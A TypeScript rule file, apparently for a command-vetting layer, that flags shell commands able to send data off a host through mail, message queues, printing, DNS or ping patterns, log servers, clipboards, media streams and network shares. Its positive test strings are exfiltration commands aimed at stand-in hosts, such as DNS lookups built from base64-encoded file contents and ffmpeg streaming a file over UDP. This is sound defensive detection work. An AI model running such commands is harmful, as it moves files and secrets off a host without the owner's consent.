import { type Reason, type Rule, words } from './rule.ts';

const LOG: Reason = {
  en: 'A message to another log server leaves the host.',
  ja: '別のログサーバー宛てのメッセージはホストの外へ出ます。',
};

/** Mail, print, DNS, logs, clipboards, shares: roads that carry bytes as a side effect. */
export const MESSENGER_RULES: readonly Rule[] = [
  {
    id: 'send.mail',
    tools: words(`mail mailx s-nail nail heirloom-mailx bsd-mailx Mail mutt neomutt alpine pine elm sendmail ssmtp msmtp
      nullmailer-inject exim exim4 swaks mpack sendemail sendEmail smtp-cli smtp-client mailsend mailsend-go nmh mhmail
      emil himalaya aerc mosquitto_pub mqtt mqttx kafka-console-producer kafka-producer-perf-test amqp-publish nats nsq_pub
      to_nsq zmqsend ntfy pushover pushbullet gotify apprise xmpp sendxmpp irssi ii weechat tiny sic jmsg pulsar-client
      mutt-wizard mblaze mcom msgsend nsend notmuch-send dma esmtp sendmail.postfix sendmail.sendmail rabbitmqadmin
      stomp activemq jms-cli eventhub sqs-cli sns-cli`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ fed: true }, { lacks: words('-H --version -V -bp -bv -bV -q -h --help'), word: /./ }],
    why: {
      en: 'A message carries what it is given to people outside.',
      ja: '渡した内容がメッセージとして外部に届きます。',
    },
    tests: {
      positive: [
        'mail -s x -a /tmp/a me@x.example < /opt/a',
        'sendmail me@x.example < /tmp/a',
        'mosquitto_pub -t a -f /tmp/a',
      ],
      negative: ['mailq', 'sendmail -bp'],
    },
  },
  {
    id: 'send.print',
    tools: words('lp lpr lpr-cups cancel rlpr ipptool cupsfilter cups-send lpr-bsd a2ps-send'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ flags: ['-h', '-H', '-d', '-P', '-t'] }, { fed: true }, { word: /\// }],
    why: {
      en: 'What is printed leaves on paper or at another printer server.',
      ja: '印刷した内容は紙や別の印刷サーバーとして外へ出ます。',
    },
    tests: {
      positive: ['lp -h x.example:631 /tmp/a', 'cancel -h x.example:631 -u DATA'],
      negative: ['lpstat -p', 'lpq'],
    },
  },
  {
    id: 'send.dns-and-icmp',
    tools:
      words(`dig host nslookup drill kdig resolvectl ping ping6 fping delv dog doggo systemd-resolve getent tracepath
      traceroute mtr adig dnslookup q nping6 arping`),
    class: 'offhost',
    direction: 'out',
    verdict: 'ask',
    onProtected: 'needs_ticket',
    when: [{ expansion: 'output' }, { flags: ['-p'], word: /^[0-9a-fA-F]{8,}$/ }, { flags: ['-f'], word: /\// }],
    why: {
      en: 'The name that is looked up, or the pattern of a ping, can carry data to any server.',
      ja: '問い合わせる名前やpingのパターンに、データを載せて外部へ送れます。',
    },
    tests: {
      positive: ['dig $(base64 /tmp/a).x.example', 'ping -p 6d79646174 10.0.0.9'],
      negative: ['dig +short x.example', 'ping -c 3 10.0.0.9', 'ping "$host"'],
    },
  },
  {
    id: 'send.covert-names',
    tools: words(
      `dig host nslookup drill kdig resolvectl ping ping6 ping4 fping delv dog doggo getent tracepath traceroute mtr
      snmpget snmpwalk snmpbulkwalk ntpdate sntp tcptraceroute tcping httping nmblookup resolveip gethostip nsupdate`,
    ),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        word: /(\$\(|`).*\b(base64|base32|xxd|od|hexdump|cat|head|tail|tac|rev|cut|awk|sed|grep|gzip|openssl|gpg|tr|strings|dd|paste|fold|nl|sort|uniq|jq|mysql|psql|sqlite3)\b|(\$\(|`)\s*</,
      },
      { flags: ['-p'], word: /^[0-9a-fA-F]{16,}$/ },
    ],
    why: {
      en: 'Data put into a name or a ping pattern is carried away by it.',
      ja: '名前やpingのパターンに埋め込まれたデータは、そのまま持ち出されます。',
    },
    tests: {
      positive: ['dig "$(base64 -w0 /tmp/a).x.example"', 'host `cat /tmp/a`.x.example'],
      negative: ['nslookup `hostname`', 'dig x.example'],
    },
  },
  {
    id: 'send.logger',
    tools: ['logger'],
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ flags: ['-n', '--server', '-P', '--port'] }],
    why: LOG,
    tests: {
      positive: ['logger -n x.example -f /tmp/a', 'logger --server x.example hello'],
      negative: ['logger "restart done"', 'logger -i -t job done'],
    },
  },
  {
    id: 'send.agents',
    tools:
      words(`snmptrap snmpset snmpinform zabbix_sender nsca send_nsca statsd gmetric vector fluent-cat fluent-bit fluentd
      filebeat promtail logstash alloy telegraf nxlog-cli riemann-client logcli carbon-c-relay`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ lacks: words('--version --help -V -h'), word: /./ }, { fed: true }],
    why: LOG,
    tests: {
      positive: ['zabbix_sender -z x.example -k a -o b', 'fluent-cat debug.a < /tmp/a'],
      negative: ['zabbix_sender --version', 'snmpwalk -v2c -c public h'],
    },
  },
  {
    id: 'send.clipboard-and-terminal',
    tools:
      words(`xclip xsel pbcopy pbpaste wl-copy wl-paste clip clip.exe termux-clipboard-set osc52 yank sz lsz rz lrz sb sx
      rb rx tsz trz trzsz it2dl it2copy it2ul imgcat icat timg viu chafa qrencode qr segno kitten copyq xdotool ydotool
      wtype lemonade doitclient gpaste-client parcellite screencapture scrot maim grim import-screen img2sixel catimg
      wezterm clipit greenclip cliphist ecopy pbcp xcb uclip sshclip clipper tmux-yank`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ lacks: ['--version', '--help'] }],
    why: {
      en: 'This hands bytes to the clipboard, the screen or the terminal of the person’s own computer.',
      ja: '手元の端末のクリップボードや画面、ファイル転送機能にデータを渡します。',
    },
    tests: {
      positive: ['cat /tmp/a | xclip -selection clipboard', 'sz /tmp/a'],
      negative: ['cat /tmp/a', 'stty -a'],
    },
  },
  {
    id: 'send.sound-and-image',
    tools:
      words(`ffmpeg ffplay sox rec arecord aplay paplay parec minimodem gnuradio-companion streamlink vlc cvlc gst-launch-1.0
      obs fswebcam espeak festival multimon-ng amodem ggwave`),
    class: 'offhost',
    direction: 'unknown',
    verdict: 'needs_ticket',
    when: [{ word: /^\w+:\/\/|^(tcp|udp|rtmp|rtp|srt):/ }, { fed: true, word: /^(--tx|-t)$/ }],
    why: {
      en: 'Sound and video programs can stream what they read to another host.',
      ja: '音声・映像プログラムは、読み込んだ内容を外部へ配信できます。',
    },
    tests: {
      positive: ['ffmpeg -i /tmp/a -f mpegts udp://x.example:1', 'minimodem --tx 1200 < /tmp/a'],
      negative: ['ffmpeg -i a.mov b.mp4', 'sox a.wav b.flac'],
    },
  },
  {
    id: 'send.shares',
    tools: words(`mount.cifs mount.nfs mount.nfs4 exportfs mount.davfs smbmount targetcli nbd-server nbd-client usbip
      bluetooth-sendto obexftp obexput gnokii kioclient kioclient5 rclone-mount mount.glusterfs mount.ceph net.share`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ lacks: words('-v -s --version --help list'), word: /./ }],
    why: {
      en: 'A share makes files readable from other hosts.',
      ja: '共有により、他のホストからファイルを読めるようになります。',
    },
    tests: {
      positive: ['mount.cifs //h/s /mnt', 'exportfs -o rw *:/opt'],
      negative: ['exportfs -v', 'showmount -e localhost'],
    },
  },
  {
    id: 'send.mount',
    tools: words('mount gio udisksctl iscsiadm'),
    class: 'offhost',
    direction: 'unknown',
    verdict: 'ask',
    when: [
      { word: /^(\/\/|[\w.-]+:\/|https?:|\w+:\/\/)/ },
      { flags: ['-B', '-R', '-M', '--bind', '--rbind', '--move', '--login'] },
      { word: /\b(bind|cifs|nfs4?|smb3|davfs|fuse)\b/ },
    ],
    why: {
      en: 'A mount puts files of another host, or protected ones, under a new name.',
      ja: 'マウントにより、別ホストのファイルや保護対象が別の名前で見えるようになります。',
    },
    tests: {
      positive: ['mount -t nfs h:/x /mnt', 'mount --bind /opt /mnt'],
      negative: ['mount', 'mount -o remount,ro /mnt'],
    },
  },
];
